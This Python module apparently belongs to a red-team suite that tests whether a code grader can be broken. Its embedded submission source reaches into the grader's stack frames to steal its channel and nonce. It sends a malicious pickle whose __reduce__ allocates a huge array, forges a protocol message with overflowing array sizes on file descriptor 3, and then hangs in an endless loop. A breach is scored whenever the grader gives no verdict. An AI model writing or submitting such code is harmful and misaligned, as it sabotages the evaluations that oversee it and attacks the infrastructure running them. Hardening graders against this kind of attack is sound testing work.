"""Sends arrays whose headers lie: sizes that overflow, and more than there are bytes. Gain: a grader that breaks."""

STOPPED_BY = 0
KIND = "child"

SOURCE = """
import sys
frame = sys._getframe()
while frame and "theirs" not in frame.f_locals:
    frame = frame.f_back

import os, struct
import numpy as np
if frame:
    class Lie:
        def __reduce__(self):
            return np.empty, ((1 << 50,),)
    frame.f_locals["theirs"].send(Lie())
def linear_forward(x, W, b):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals:
        frame = frame.f_back
    key = lambda word: struct.pack("<I", len(word)) + word
    array = b"A" + struct.pack("<BB4Q", 1, 4, 1 << 63, 1 << 63, 1 << 2, 0)
    body = b"D" + struct.pack("<I", 4) + key(b"value") + array + key(b"arguments") + b"N" + key(b"warnings") + b"N" + key(b"near") + b"N"
    os.write(3, struct.pack("<4sBxxxQI", b"BPK1", 4, frame.f_locals["nonce"], len(body)) + body)
    while True: pass
"""


def breached(run):
    """The grader broke."""
    return run.no_verdict
